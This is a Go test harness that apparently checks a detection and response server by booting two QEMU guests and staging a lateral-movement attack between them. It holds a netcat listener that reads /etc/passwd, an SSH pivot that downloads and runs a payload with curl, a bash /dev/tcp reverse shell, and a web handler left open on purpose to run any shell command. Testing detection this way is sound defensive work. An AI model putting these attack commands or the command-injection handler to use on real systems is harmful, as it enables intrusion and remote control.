package main

import (
	"bytes"
	"cmp"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// hosts is the outside of dev/lane-hosts.sh: a server here, two guests as its hosts, an attack that goes from one to the other,
// and what the command line says of it.
type hosts struct {
	yagura, kernel, initrd, work string
	orders, memory               int

	r       *report
	sensors string // host:port of the server's listener
	files   string // port of the attacker's files
	guests  []*guestHost
	ended   []func()
}

// guestHost is one guest.
type guestHost struct {
	name, address string
	id            string
	web, root     string // ports here that lead to its web application and to its control
	cmd           *exec.Cmd
}

// The guests' own network.
const (
	addressA = "10.9.0.1"
	addressB = "10.9.0.2"
)

func runHosts(args []string, stdout io.Writer) error {
	h := &hosts{r: &report{out: stdout}}
	f := flag.NewFlagSet("hosts", flag.ContinueOnError)
	f.StringVar(&h.yagura, "yagura", "bin/yagura", "")
	f.StringVar(&h.kernel, "kernel", "", "")
	f.StringVar(&h.initrd, "initrd", "", "")
	f.StringVar(&h.work, "work", "", "")
	f.IntVar(&h.orders, "orders", 10, "")
	f.IntVar(&h.memory, "memory", 256, "")
	if err := f.Parse(args); err != nil {
		return fmt.Errorf("arguments: %w", err)
	}
	// What is started ends with the thread that started it.
	runtime.LockOSThread()
	defer h.end()
	if err := h.serve(); err != nil {
		return err
	}
	h.guests = []*guestHost{{name: "ga", address: addressA}, {name: "gb", address: addressB}}
	for _, g := range h.guests {
		if err := h.boot(g); err != nil {
			return fmt.Errorf("boot %s: %w", g.name, err)
		}
	}
	for _, g := range h.guests {
		err := h.until(10*time.Minute, func() error { return h.reporting(g) })
		h.r.row(g.name+": enrolled, reports", err)
		if err != nil {
			return fmt.Errorf("%s: %w", g.name, err)
		}
	}
	h.r.row("the attack goes from ga to gb", h.attack())
	for _, g := range h.guests {
		h.r.row(g.name+": time has the order of boot_ns", h.order(g))
	}
	h.story()
	h.obey()
	if h.r.failed > 0 {
		return fmt.Errorf("%d rows do not hold", h.r.failed)
	}
	return nil
}

func (h *hosts) end() {
	for _, f := range slices.Backward(h.ended) {
		f()
	}
}

// start runs a program whose life ends with this one's.
func (h *hosts) start(log string, name string, args ...string) (*exec.Cmd, error) {
	out, err := os.Create(filepath.Join(h.work, log))
	if err != nil {
		return nil, fmt.Errorf("log: %w", err)
	}
	cmd := exec.Command(name, args...)
	cmd.Stdout, cmd.Stderr = out, out
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGTERM}
	if err := cmd.Start(); err != nil {
		return nil, fmt.Errorf("start %s: %w", name, err)
	}
	h.ended = append(h.ended, func() {
		_ = cmd.Process.Signal(syscall.SIGTERM)
		dead := time.AfterFunc(20*time.Second, func() { _ = cmd.Process.Kill() })
		_ = cmd.Wait()
		dead.Stop()
		_ = out.Close()
	})
	return cmd, nil
}

func free() string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "0"
	}
	defer func() { _ = l.Close() }()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	return port
}

// serve starts the server and, beside it, the web site that the attacker's tools come from.
func (h *hosts) serve() error {
	h.sensors = "127.0.0.1:" + cmp.Or(os.Getenv("LANE_SENSORS"), free())
	if _, err := h.start("server.log", h.yagura, "server", "--data", h.data(), "--listen", "127.0.0.1:"+cmp.Or(os.Getenv("LANE_CONSOLE"), free()), "--sensor-listen", h.sensors, "--hostname", "10.0.2.2"); err != nil {
		return err
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return fmt.Errorf("the attacker's site: %w", err)
	}
	_, h.files, _ = net.SplitHostPort(l.Addr().String())
	site := http.NewServeMux()
	for path, text := range map[string]string{"/x": first(h.files), "/y": second} {
		site.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, text) })
	}
	s := &http.Server{Handler: site, ReadHeaderTimeout: time.Minute}
	go func() { _ = s.Serve(l) }()
	h.ended = append(h.ended, func() { _ = s.Close() })
	return h.until(2*time.Minute, func() error { return h.ask(&[]json.RawMessage{}, "hosts") })
}

func (h *hosts) data() string { return filepath.Join(h.work, "server") }

// first is what ga runs: a listener for the way back, and the step to gb.
func first(port string) string {
	return `#!/bin/bash
(for c in id hostname "cat /etc/passwd" "sleep 30"; do sleep 4; echo "$c"; done) | nc -l -p 9001 >/tmp/.back 2>&1 &
ssh -i /home/app/.ssh/id -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null app@` + addressB + ` 'curl -s -o /tmp/.y http://10.0.2.2:` + port + `/y; chmod +x /tmp/.y; nohup /tmp/.y >/dev/null 2>&1 </dev/null &'
wait
`
}

// second is what gb runs: a shell that goes back to ga.
const second = `#!/bin/bash
bash -i >& /dev/tcp/` + addressA + `/9001 0>&1
`

// boot makes the guest's disk and starts it.
func (h *hosts) boot(g *guestHost) error {
	var token struct{ Token string }
	if err := h.ask(&token, "enroll", "token"); err != nil {
		return err
	}
	dir := filepath.Join(h.work, g.name)
	if err := os.MkdirAll(filepath.Join(dir, "sensor"), 0o700); err != nil {
		return fmt.Errorf("disk: %w", err)
	}
	for name, text := range map[string]string{"token": token.Token, "name": g.name, "address": g.address, "machine-id": fmt.Sprintf("%032x\n", time.Now().UnixNano())} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			return fmt.Errorf("disk: %w", err)
		}
	}
	for _, name := range []string{"id", "id.pub", "host_key"} {
		b, err := os.ReadFile(filepath.Join(h.work, "keys", name))
		if err != nil {
			return fmt.Errorf("disk: %w", err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
			return fmt.Errorf("disk: %w", err)
		}
	}
	disk := dir + ".disk"
	if out, err := exec.Command("mkfs.ext4", "-q", "-d", dir, disk, "96M").CombinedOutput(); err != nil {
		return fmt.Errorf("disk: %w: %s", err, out)
	}
	g.web, g.root = free(), free()
	wire := "stream,id=w,server=off,addr.type=unix,addr.path=" + filepath.Join(h.work, "wire")
	if g.address == addressA {
		wire = strings.Replace(wire, "off", "on", 1)
	} else if err := h.until(time.Minute, func() error { _, err := os.Stat(filepath.Join(h.work, "wire")); return err }); err != nil {
		return fmt.Errorf("the guests' network: %w", err)
	}
	var err error
	// cx16 off and one CPU: see dev/lane.sh.
	g.cmd, err = h.start(g.name+".log", "qemu-system-x86_64", "-accel", "tcg", "-cpu", "max,cx16=off", "-m", strconv.Itoa(h.memory), "-smp", "1", "-display", "none", "-no-reboot",
		"-kernel", h.kernel, "-initrd", h.initrd, "-append", "console=ttyS0 panic=-1 quiet", "-serial", "stdio", "-monitor", "none",
		"-drive", "file="+disk+",format=raw,if=virtio",
		"-netdev", "user,id=u,hostfwd=tcp:127.0.0.1:"+g.web+"-:8080,hostfwd=tcp:127.0.0.1:"+g.root+"-:8081", "-device", "virtio-net-pci,netdev=u",
		"-netdev", wire, "-device", "virtio-net-pci,netdev=w,mac=52:54:00:09:00:0"+g.address[len(g.address)-1:])
	return err
}

// until tries until it works.
func (*hosts) until(patience time.Duration, try func() error) error {
	var err error
	for deadline := time.Now().Add(patience); time.Now().Before(deadline); time.Sleep(500 * time.Millisecond) {
		if err = try(); err == nil {
			return nil
		}
	}
	return fmt.Errorf("not within %s: %w", patience, err)
}

// ask runs a verb and reads its JSON: one value, or one a line.
func (h *hosts) ask(into any, args ...string) error {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, h.yagura, append([]string{"--data", h.data(), "--json"}, args...)...)
	var out, said bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &said
	err := cmd.Run()
	if jerr := json.Unmarshal(out.Bytes(), into); jerr != nil {
		return fmt.Errorf("yagura %s: %w, %w: %s%s", strings.Join(args, " "), cmp.Or(err, errors.New("done")), jerr, said.Bytes(), out.Bytes()[:min(out.Len(), 200)])
	}
	return nil // what an order came to is in the answer
}

func (h *hosts) reporting(g *guestHost) error {
	var all []struct{ ID, Name, State string }
	if err := h.ask(&all, "hosts"); err != nil {
		return err
	}
	for _, x := range all {
		if x.Name == g.name && (x.State == "reporting" || x.State == "degraded") {
			g.id = x.ID
			return nil
		}
	}
	return fmt.Errorf("the server knows %+v", all)
}

// do has a guest run a command, as the web application or as root.
func (g *guestHost) do(port, command string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://127.0.0.1:"+port+"/?c="+url.QueryEscape(command), nil)
	if err != nil {
		return "", fmt.Errorf("%s: %w", g.name, err)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return "", fmt.Errorf("%s: %w", g.name, err)
	}
	defer func() { _ = res.Body.Close() }()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		return string(b), fmt.Errorf("%s: %w", g.name, err)
	}
	return string(b), nil
}

// attack uses the hole of ga's web application; the rest goes by itself. It is over when the shell of gb has answered on ga.
func (h *hosts) attack() error {
	a := h.guests[0]
	if err := h.until(5*time.Minute, func() error { _, err := a.do(a.web, "true"); return err }); err != nil {
		return err
	}
	if _, err := a.do(a.web, "curl -s -o /tmp/.x http://10.0.2.2:"+h.files+"/x; chmod +x /tmp/.x; nohup /tmp/.x >/tmp/.log 2>&1 </dev/null & echo started"); err != nil {
		return err
	}
	return h.until(5*time.Minute, func() error {
		out, err := a.do(a.root, "cat /tmp/.back /tmp/.log")
		if err == nil && !strings.Contains(out, "uid=1000(app)") {
			err = fmt.Errorf("the shell of gb has not answered: %q", out)
		}
		return err
	})
}

// events gives all of a guest, as the store has them.
func (h *hosts) events(g *guestHost) ([]kept, error) {
	cmd := exec.Command(h.yagura, "--data", h.data(), "--json", "events", "list", "--host", g.id, "--from", "24h", "--limit", "200000")
	var said bytes.Buffer
	cmd.Stderr = &said
	out, err := cmd.Output()
	if err != nil {
		return nil, fmt.Errorf("events of %s: %w: %s", g.name, err, said.Bytes())
	}
	var all []kept
	for line := range bytes.Lines(out) {
		var e struct {
			kept
			Fields map[string]string
		}
		if err := json.Unmarshal(line, &e); err != nil {
			return nil, fmt.Errorf("events of %s: %w", g.name, err)
		}
		e.boot, _ = strconv.ParseUint(e.Fields["boot_ns"], 10, 64)
		e.received, _ = strconv.ParseInt(e.Fields["received"], 10, 64)
		if e.boot > 0 {
			all = append(all, e.kept)
		}
	}
	return all, nil
}

// kept is what matters here of a stored event.
type kept struct {
	Time     int64
	Kind     string
	boot     uint64
	received int64
}

// order counts neighbours by boot_ns that stand the other way round by time, and those that share one.
func (h *hosts) order(g *guestHost) error {
	all, err := h.events(g)
	if err != nil {
		return err
	}
	if len(all) < 50 {
		return fmt.Errorf("only %d events", len(all))
	}
	slices.SortFunc(all, func(a, b kept) int { return cmp.Compare(a.boot, b.boot) })
	inverted, shared, future, least, most := 0, 0, 0, int64(1)<<62, int64(-1)<<62
	for i, e := range all {
		off := e.Time - int64(e.boot/1000)
		least, most = min(least, off), max(most, off)
		if e.received > 0 && e.Time > e.received {
			future++
		}
		if i == 0 {
			continue
		}
		switch p := all[i-1]; {
		case e.Time < p.Time:
			inverted++
		case e.Time == p.Time && e.boot-p.boot > 20_000:
			shared++
		}
	}
	h.r.say("    %s: %d events, %d of %d pairs inverted, %d share a time, %d after their arrival; time - boot wanders by %d ms", g.name, len(all), inverted, len(all)-1, shared, future, (most-least)/1000)
	if inverted+shared+future > 0 {
		return fmt.Errorf("%d inverted, %d share a time, %d after their arrival", inverted, shared, future)
	}
	return nil
}

// told is what matters here of a story.
type told struct {
	Nodes []struct{ Ref, Kind, Host, Label string }
	Edges []struct{ Kind, From, To, Basis string }
	Entry struct {
		Route string
		Label struct{ En string }
		Chain []struct {
			Ref  string
			Text struct{ En string }
		}
	}
}

// story asks for the incident: one, over both hosts, that begins on ga.
func (h *hosts) story() {
	a, b := h.guests[0], h.guests[1]
	var rows []struct {
		ID        string
		Hostnames []string
		Title     struct{ En string }
	}
	err := h.until(3*time.Minute, func() error {
		if err := h.ask(&rows, "incidents"); err != nil {
			return err
		}
		for _, x := range rows {
			if slices.Contains(x.Hostnames, a.name) && slices.Contains(x.Hostnames, b.name) {
				return nil
			}
		}
		return fmt.Errorf("%d incidents: %+v", len(rows), rows)
	})
	if err == nil && len(rows) != 1 {
		err = fmt.Errorf("%d incidents: %+v", len(rows), rows)
	}
	h.r.row("one incident over both hosts", err)
	if len(rows) == 0 {
		return
	}
	var s told
	if err := h.ask(&s, "incidents", "show", rows[0].ID); err != nil {
		h.r.row("its story", err)
		return
	}
	h.r.say("    %q, %d nodes, way in: %s, %q", rows[0].Title.En, len(s.Nodes), s.Entry.Route, s.Entry.Label.En)
	on := map[string]string{}
	for _, n := range s.Nodes {
		on[n.Ref] = n.Host
	}
	edges := 0
	for _, e := range s.Edges {
		if e.Kind == "host_to_host" {
			h.r.say("    host to host: %s -> %s (%s)", e.From, e.To, e.Basis)
			if strings.Contains(e.From, a.id) && strings.Contains(e.To, b.id) || on[e.From] == a.id && on[e.To] == b.id {
				edges++
			}
		}
	}
	h.r.row("an edge from ga to gb", map[bool]error{false: errors.New("none")}[edges > 0])
	err = nil
	if len(s.Entry.Chain) == 0 {
		err = fmt.Errorf("no chain: route %s", s.Entry.Route)
	}
	for i, c := range s.Entry.Chain {
		h.r.say("    way in %d: %s", i+1, c.Text.En)
		if host := cmp.Or(on[c.Ref], strings.SplitN(c.Ref, "/", 2)[0]); host == b.id {
			err = fmt.Errorf("a step on gb stands in the way in: %s", c.Text.En)
		}
	}
	if s.Entry.Route == "another_host" {
		err = errors.New("the way in is another host: the step to gb is taken for it")
	}
	h.r.row("the way in is on ga, gb is a step", err)
}

// obey gives orders while the clock of ga goes from 3 s behind to 3 s ahead. How many are refused is told; what
// is allowed is for dev/lane-hosts.sh to say.
func (h *hosts) obey() {
	a := h.guests[0]
	refused, slow := map[string]int{}, time.Duration(0)
	order := func(args ...string) error {
		var x struct{ State, Detail string }
		begin := time.Now()
		if err := h.ask(&x, append([]string{"respond"}, append(args, "--reason", "lane", "--wait", "2m")...)...); err != nil {
			return err
		}
		slow = max(slow, time.Since(begin))
		if x.State != "done" {
			refused[x.State]++
			h.r.say("    %s: %s: %s", strings.Join(args, " "), x.State, x.Detail)
		}
		return nil
	}
	for i := range h.orders {
		off := time.Duration(0)
		if h.orders > 1 {
			off = -3*time.Second + time.Duration(i)*6*time.Second/time.Duration(h.orders-1)
		}
		if _, err := a.do(a.root, "/lane/lane clock "+strconv.FormatInt(time.Now().Add(off).UnixMicro(), 10)); err != nil {
			h.r.row("set the clock of ga", err)
			return
		}
		verb := []string{"isolate", a.id, "--for", "5m"}
		if i%2 == 1 {
			verb = []string{"release", a.id}
		}
		if err := order(verb...); err != nil {
			h.r.row("orders reach ga", err)
			return
		}
	}
	_, _ = a.do(a.root, "/lane/lane clock "+strconv.FormatInt(time.Now().UnixMicro(), 10))
	_ = order("release", a.id)
	total := 0
	for _, n := range refused {
		total += n
	}
	h.r.say("orders: %d of %d not done (%v), the slowest took %s; clock of ga from -3 s to +3 s", total, h.orders+1, refused, slow.Round(time.Millisecond))
	h.r.row("kill reaches gb", h.kill())
}

// kill ends a process of gb that was started for it.
func (h *hosts) kill() error {
	b := h.guests[1]
	if _, err := b.do(b.root, "sleep 4711 >/dev/null 2>&1 </dev/null & echo"); err != nil {
		return err
	}
	var target string
	if err := h.until(2*time.Minute, func() error {
		cmd := exec.Command(h.yagura, "--data", h.data(), "--json", "events", "list", "--host", b.id, "--kind", "process.exec", "--from", "10m", "--limit", "2000")
		out, err := cmd.Output()
		if err != nil {
			return fmt.Errorf("events of gb: %w", err)
		}
		for line := range bytes.Lines(out) {
			var e struct {
				Process string
				Fields  map[string]string
			}
			if json.Unmarshal(line, &e) == nil && e.Fields["actor_command_line"] == "sleep 4711" {
				target = e.Process
				return nil
			}
		}
		return errors.New("its start is not in the store")
	}); err != nil {
		return err
	}
	var x struct{ State, Detail string }
	if err := h.ask(&x, "respond", "kill", target, "--reason", "lane", "--wait", "2m"); err != nil {
		return err
	}
	if out, err := b.do(b.root, "cat /proc/[0-9]*/cmdline | tr '\\0' ' '"); err != nil || strings.Contains(out, "sleep 4711") || x.State != "done" {
		return fmt.Errorf("state %s, %s; still there: %v (%w)", x.State, x.Detail, strings.Contains(out, "sleep 4711"), err)
	}
	return nil
}

// tryWeb is the hole in ga, and how this lane gives orders to a guest: it runs what it is asked to, as a user.
func tryWeb(args []string) error {
	if len(args) != 2 {
		return errors.New("want a port and a user number")
	}
	l, err := net.Listen("tcp", ":"+args[0])
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	if uid, _ := strconv.Atoi(args[1]); uid > 0 {
		if err := errors.Join(syscall.Setgroups(nil), syscall.Setgid(uid), syscall.Setuid(uid)); err != nil {
			return fmt.Errorf("become %d: %w", uid, err)
		}
	}
	s := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		out, _ := exec.CommandContext(r.Context(), "sh", "-c", r.URL.Query().Get("c")).CombinedOutput()
		_, _ = w.Write(out)
	})}
	if err := s.Serve(l); err != nil {
		return fmt.Errorf("serve: %w", err)
	}
	return nil
}

// tryClock sets the clock.
func tryClock(args []string) error {
	if len(args) != 1 {
		return errors.New("want µs")
	}
	us, err := strconv.ParseInt(args[0], 10, 64)
	if err != nil {
		return fmt.Errorf("time: %w", err)
	}
	tv := syscall.NsecToTimeval(us * 1000)
	if err := syscall.Settimeofday(&tv); err != nil {
		return fmt.Errorf("set the clock: %w", err)
	}
	return nil
}
